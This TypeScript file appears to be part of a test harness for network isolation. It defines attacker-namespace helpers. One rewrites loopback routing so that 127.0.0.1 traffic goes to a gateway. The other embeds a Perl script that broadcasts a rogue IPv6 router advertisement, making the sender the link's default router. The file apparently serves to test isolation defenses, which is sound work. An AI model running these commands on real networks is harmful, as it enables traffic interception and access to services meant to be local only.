import type { Namespace } from "./namespace.ts";

/** What a container, or a machine next to the node, may try. */

/**
 * Gives 127.0.0.1 away, and looks for it at a gateway from now on: packets to it go out as to any
 * other address, to the gateway's MAC address.
 */
export function reachLoopbackOver(attacker: Namespace, gateway: string): void {
  attacker.shell(`
    ip address flush dev lo
    ip route flush table local
    ip route add local $(ip -4 -o address show dev eth0 | sed 's#.* inet ##; s#/.*##') dev eth0 table local
    sysctl -q net.ipv4.conf.all.route_localnet=1
    sysctl -q net.ipv4.conf.eth0.route_localnet=1
    ip route replace 127.0.0.0/8 via ${gateway} dev eth0
  `);
}

/**
 * Router advertisement of a router to be used by default, and of a network to take an address in
 * (RFC 4861, sections 4.2 and 4.6.2). The kernel fills in the checksum.
 */
const advertisement = `
  use Socket qw(:all);
  my ($index) = map { chomp; $_ } \`cat /sys/class/net/eth0/ifindex\`;
  socket(my $socket, AF_INET6, SOCK_RAW, 58) or die $!;
  setsockopt($socket, 41, 17, pack("i", $index)) or die $!; # IPV6_MULTICAST_IF
  setsockopt($socket, 41, 18, pack("i", 255)) or die $!; # IPV6_MULTICAST_HOPS
  my $header = pack("CCnCCnNN", 134, 0, 0, 64, 0, 1800, 0, 0);
  my $prefix = pack("CCCCNNN", 3, 4, 64, 0xc0, 86400, 14400, 0) . inet_pton(AF_INET6, "2001:db8:bad::");
  my $everybody = pack_sockaddr_in6(0, inet_pton(AF_INET6, "ff02::1"), $index);
  send($socket, $header . $prefix, 0, $everybody) or die $!;
`;

/** Says to everybody on the link of eth0 to be the router to the rest of the world. */
export function advertiseRouter(attacker: Namespace): void {
  attacker.exec("perl", "-e", advertisement);
}
